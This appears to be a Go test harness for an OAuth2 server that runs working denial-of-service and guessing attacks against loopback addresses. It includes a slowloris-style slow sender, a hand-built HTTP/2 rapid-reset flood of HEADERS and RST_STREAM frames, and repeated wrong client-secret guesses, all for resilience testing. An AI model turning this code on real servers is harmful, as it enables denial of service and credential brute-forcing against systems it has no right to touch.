// Copyright 2026 The Hallpass Authors.
// SPDX-License-Identifier: Apache-2.0

package attack_test

import (
	"bufio"
	"context"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"github.com/hallpass-dev/hallpass/internal/oauth2"
)

// attack is what is done to a server, and how much of it.
type attack struct {
	address, clientID string

	slow, resets, guesses, admitted atomic.Int64
}

// counts is how much of each attack there was: letters of slow beginnings, resets, and answers to
// wrong secrets.
type counts struct{ slow, resets, guesses int64 }

func (a *attack) counts() counts { return counts{a.slow.Load(), a.resets.Load(), a.guesses.Load()} }

func (c counts) less(before counts) counts {
	return counts{c.slow - before.slow, c.resets - before.resets, c.guesses - before.guesses}
}

// beyond reports whether each attack has continued since then.
func (a *attack) beyond(before counts) bool {
	since := a.counts().less(before)
	return since.slow > 0 && since.resets > 0 && since.guesses > 0
}

// begin starts all attacks, which end with the context.
func (a *attack) begin(ctx context.Context, slow, resetters, rate int) *sync.WaitGroup {
	var running sync.WaitGroup
	for i := range slow {
		running.Go(func() { a.repeatedly(ctx, a.slowly, from(2+i%8)) })
	}
	for range resetters {
		running.Go(func() { a.repeatedly(ctx, a.resetting, from(20)) })
	}
	const guessers = 50
	for i := range guessers {
		running.Go(func() {
			a.repeatedly(ctx, func(ctx context.Context, c *tls.Conn) { a.guess(ctx, c, time.Second*guessers/time.Duration(rate)) }, from(30+i%5))
		})
	}
	return &running
}

// from is an address of this host that is not the honest client's.
func from(last int) *net.TCPAddr {
	return &net.TCPAddr{IP: net.ParseIP("127.0.0." + strconv.Itoa(last))}
}

// repeatedly opens a connection and does something with it, again and again.
func (a *attack) repeatedly(ctx context.Context, do func(context.Context, *tls.Conn), source *net.TCPAddr) {
	for ctx.Err() == nil {
		dialer := &tls.Dialer{
			NetDialer: &net.Dialer{LocalAddr: source, Timeout: time.Minute},
			Config:    &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2", "http/1.1"}}, //nolint:gosec // an attacker does not care
		}
		if connection, err := dialer.DialContext(ctx, "tcp", a.address); err == nil {
			if c, ok := connection.(*tls.Conn); ok {
				stop := context.AfterFunc(ctx, func() { _ = connection.Close() })
				do(ctx, c)
				stop()
			}
			_ = connection.Close()
		}
		pause(ctx, time.Second) // hung up on: even an attacker has other things to do
	}
}

func pause(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// slowly sends a beginning that never gets anywhere, letter by letter.
func (a *attack) slowly(ctx context.Context, c *tls.Conn) {
	for ctx.Err() == nil {
		if _, err := c.Write([]byte("P")); err != nil {
			return
		}
		a.slow.Add(1)
		pause(ctx, time.Second)
	}
}

// resetting opens streams of HTTP/2 and resets each at once: RFC 9113 section 6.4.
func (a *attack) resetting(ctx context.Context, c *tls.Conn) {
	go func() { _, _ = io.Copy(io.Discard, c) }()
	if _, err := c.Write([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00")); err != nil {
		return
	}
	// By HPACK's static table (RFC 7541 appendix A): :method POST, :scheme https, :path and
	// :authority as literals.
	const fields = "\x83\x87\x04\x0d/oauth2/token\x01\x09localhost"
	const together = 50
	for stream := uint32(1); stream < 1<<30 && ctx.Err() == nil; {
		var frames []byte
		for range together {
			// HEADERS, END_STREAM and END_HEADERS
			frames = append(frames, 0, 0, byte(len(fields)), 1, 5)
			frames = binary.BigEndian.AppendUint32(frames, stream)
			frames = append(frames, fields...)
			frames = append(frames, 0, 0, 4, 3, 0) // RST_STREAM
			frames = binary.BigEndian.AppendUint32(frames, stream)
			frames = append(frames, 0, 0, 0, 8) // CANCEL
			stream += 2
		}
		if _, err := c.Write(frames); err != nil {
			return
		}
		a.resets.Add(together)
	}
}

// guess sends well-formed wrong secrets, one in each interval.
func (a *attack) guess(ctx context.Context, c *tls.Conn, interval time.Duration) {
	if c.ConnectionState().NegotiatedProtocol == "h2" {
		c = a.plainer(ctx, c)
		if c == nil {
			return
		}
		defer func() { _ = c.Close() }()
	}
	secret, err := oauth2.NewClientSecret(rand.Reader)
	if err != nil {
		return
	}
	body := url.Values{"grant_type": {"client_credentials"}, "client_id": {a.clientID}, "client_secret": {secret.Value.Reveal()}}.Encode()
	request := fmt.Appendf(nil, "POST /oauth2/token HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s",
		len(body), body)
	answers := bufio.NewReader(c)
	tick := time.NewTicker(interval)
	defer tick.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
		if _, err := c.Write(request); err != nil {
			return
		}
		answer, err := http.ReadResponse(answers, nil)
		if err != nil {
			return
		}
		_, _ = io.Copy(io.Discard, answer.Body)
		_ = answer.Body.Close()
		a.guesses.Add(1)
		if answer.StatusCode == http.StatusOK {
			a.admitted.Add(1)
		}
	}
}

// plainer is another connection from the same address, for HTTP/1.1.
func (a *attack) plainer(ctx context.Context, c *tls.Conn) *tls.Conn {
	local, ok := c.LocalAddr().(*net.TCPAddr)
	if !ok {
		return nil
	}
	dialer := &tls.Dialer{
		NetDialer: &net.Dialer{LocalAddr: &net.TCPAddr{IP: local.IP}, Timeout: time.Minute},
		Config:    &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"http/1.1"}}, //nolint:gosec // as above
	}
	connection, err := dialer.DialContext(ctx, "tcp", a.address)
	if err != nil {
		return nil
	}
	plain, _ := connection.(*tls.Conn)
	context.AfterFunc(ctx, func() { _ = connection.Close() })
	return plain
}
